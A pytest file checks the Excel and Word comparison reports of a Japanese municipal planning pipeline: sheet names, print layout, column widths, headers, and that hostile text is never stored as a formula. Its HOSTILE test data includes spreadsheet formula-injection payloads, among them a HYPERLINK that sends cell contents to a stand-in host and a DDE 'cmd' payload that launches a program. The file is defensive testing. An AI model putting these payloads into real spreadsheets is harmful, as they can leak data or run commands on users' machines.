"""comparison.xlsx and comparison.docx as a planner opens and prints them: Japanese sheet names, print
set-up (landscape, one page wide, titles repeated, the matrix on one page), frozen headers, widths that
fit Japanese text, a header and page numbers in Word; and text from documents never stored as a formula."""
from __future__ import annotations

import io
import re
import zipfile

import pytest
from comparekit import MINAMIKAWA, WAKABA, KeywordMatcher, item
from conftest import ROOT
from docx import Document as open_docx
from openpyxl import Workbook, load_workbook

from pipeline.compare.compare import Comparison, OtherItem, compare, others_from_document
from pipeline.compare.report import SHEETS, report_bytes, text_width, workbook_bytes
from pipeline.ingest import ingest_file
from pipeline.outline import read_outline
from pipeline.output import safe_cell

HOSTILE = [
    '=HYPERLINK("http://x"&A1,"a")',
    "=cmd|' /C calc'!A0",
    "＝重点＝ 市民講座",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1)",
]


@pytest.fixture(scope="module")
def outline():
    return read_outline(ROOT / "inputs" / "outline_計画の構成案.txt")


@pytest.fixture(scope="module")
def towns(outline) -> Comparison:
    ours, theirs = ingest_file(WAKABA, use_cache=False), ingest_file(MINAMIKAWA, use_cache=False)
    return compare(outline, ours.items, others_from_document(theirs), KeywordMatcher(outline), our_city="若葉町")


@pytest.fixture(scope="module")
def hostile(outline) -> Comparison:
    """Other cities' measures whose names and contents a spreadsheet would take for formulas."""
    ours = [item("市民協働講座の開催", "講座を開きます。", 1)]
    others = [OtherItem(item=item(text, text, k, path="evil.txt", sha="e" * 64), city=text[:6] or "x",
                        fiscal_year=2023, pillar=1) for k, text in enumerate(HOSTILE, 1)]
    return compare(outline, ours, others, KeywordMatcher(outline), our_city="若葉町")


def _xml_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n).decode("utf-8") for n in z.namelist() if n.endswith(".xml")}


def test_hostile_text_is_stored_as_text_never_as_a_formula(hostile: Comparison) -> None:
    """Issue 14.2: measure text starting with = was written as a live formula in pairs and gaps."""
    data = workbook_bytes(hostile)
    parts = _xml_parts(data)
    sheets = [x for n, x in parts.items() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in x or "<f " in x for x in sheets)
    wb = load_workbook(io.BytesIO(data))
    values = {c.value for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE:
        assert text in values
    pairs = wb[SHEETS[1]]
    cell = next(c for row in pairs.iter_rows(min_row=2) for c in row if c.value == "＝重点＝ 市民講座")
    assert cell.data_type == "s" and cell.quotePrefix  # stays text when a planner edits the cell


@pytest.mark.parametrize("value, quoted", [("=1+1", True), ("＝重点＝", True), (" @x", True), ("市民講座", False),
                                            ("1-2", False)])
def test_safe_cell(value: str, quoted: bool) -> None:
    cell = safe_cell(Workbook().active.cell(row=1, column=1), value)
    assert cell.value == value and cell.data_type == "s" and bool(cell.quotePrefix) == quoted
    assert safe_cell(Workbook().active.cell(row=1, column=1), 3).data_type == "n"


def test_sheets_have_japanese_names_and_print_one_page_wide(towns: Comparison) -> None:
    wb = load_workbook(io.BytesIO(workbook_bytes(towns)))
    assert wb.sheetnames == ["柱別の施策数", "施策の対応", "新規候補"]
    for ws in wb:
        assert ws.page_setup.orientation == "landscape"
        assert ws.sheet_properties.pageSetUpPr.fitToPage and ws.page_setup.fitToWidth == 1
        assert ws.print_title_rows == "$1:$1"
        assert ws.freeze_panes is not None and ws.freeze_panes.endswith("2")
        assert "&P" in ws.oddFooter.center.text
    matrix = wb["柱別の施策数"]
    assert matrix.page_setup.fitToHeight == 1  # the matrix on one page
    # the longest pillar name fits its column once wrapped, and no column is narrower than its header
    longest = max((c.value for c in matrix["A"][1:] if c.value), key=text_width)
    assert matrix.column_dimensions["A"].width * 3 >= text_width(longest)
    for ws in wb:
        for cell in ws[1]:
            width = ws.column_dimensions[cell.column_letter].width
            assert width >= min(text_width(str(cell.value)), 48) / 2, (ws.title, cell.value, width)


def test_word_report_has_a_header_page_numbers_and_no_compatibility_mode(towns: Comparison) -> None:
    data = report_bytes(towns, None, provenance="test")
    doc = open_docx(io.BytesIO(data))
    section = doc.sections[0]
    assert "他市町村との施策比較" in "".join(p.text for p in section.header.paragraphs)
    footer = "".join(el.text or "" for el in section.footer._element.iter() if el.tag.endswith("instrText"))
    assert "PAGE" in footer
    settings = _xml_parts(data)["word/settings.xml"]
    assert re.search(r'w:name="compatibilityMode"[^>]*w:val="15"', settings)
